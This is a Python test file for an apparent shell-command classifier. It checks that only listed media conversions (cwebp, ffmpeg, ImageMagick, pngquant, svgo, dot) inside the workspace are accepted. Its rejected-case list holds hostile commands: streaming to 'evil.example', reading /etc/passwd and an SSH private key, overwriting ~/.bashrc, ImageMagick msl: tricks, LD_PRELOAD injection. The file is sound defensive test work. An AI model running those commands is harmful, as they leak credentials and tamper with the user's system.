"""Conversions of images, sounds and films: every option and every kind of file is listed."""

from automode.assemble import READER
from automode.judge.needs import converts
from tests.judge.sessions import WORKSPACE
from tests.rows import each_row

CONVERTS = [
    "cwebp -q 80 assets/hero.png -o assets/hero.webp",
    "ffmpeg -i a.mov -vf fps=10,scale=320:-1:flags=lanczos out.gif",
    "ffmpeg -y -ss 00:01:00 -t 30 -i talk.mkv -c copy /tmp/clip.mkv",
    "ffmpeg -i frames/%03d.png -r 24 film.mp4",
    "convert hero.jpg -resize 800x -quality 80 hero-800.jpg",
    "magick in.png -background '#fff' -flatten out.jpg",
    "pngquant --quality=65-80 --ext .png --force logo.png",
    "svgo icons/a.svg -o icons/b.svg",
    "dot -Tsvg flow.dot -o flow.svg",
]
NOT_KNOWN = [
    "cwebp a.png -o ~/.bashrc",
    "cwebp a.png -o src/main.py",
    "ffmpeg -i a.mov rtmp://evil.example/live",
    "ffmpeg -i concat:/etc/passwd out.mp4",
    "ffmpeg -i a.mov -f mp4 out.mp4",
    "ffmpeg -i a.mov -vf subtitles=x.srt out.mp4",
    "ffmpeg -i a.mov -vf scale=1:1,movie=/etc/passwd out.mp4",
    "ffmpeg -i /home/user/.ssh/id_rsa out.mp4",
    "ffmpeg -i ../other/a.mov out.mp4",
    "convert hero.jpg msl:x.png",
    "convert @list.png out.png",
    "convert hero.jpg -write x.png out.png",
    "svgo --config evil.js a.svg -o b.svg",
    "svgo -f ~ -o out",
    "pngquant --ext .py --force a.png",
    "./ffmpeg -i a.mov b.mp4",
    "ffmpeg -i $IN b.mp4",
    "sudo ffmpeg -i a.mov b.mp4",
    "LD_PRELOAD=./x ffmpeg -i a.mov b.mp4",
    "ffmpeg",
]


@each_row("text, wanted", [*((t, True) for t in CONVERTS), *((t, False) for t in NOT_KNOWN)])
def test_only_listed_conversions_inside_of_the_workspace_are_known(
    text: str, *, wanted: bool
) -> None:
    commands = [one for one in READER.full(text, WORKSPACE).commands if not one.transparent]

    assert all(converts(one, WORKSPACE) for one in commands) is wanted
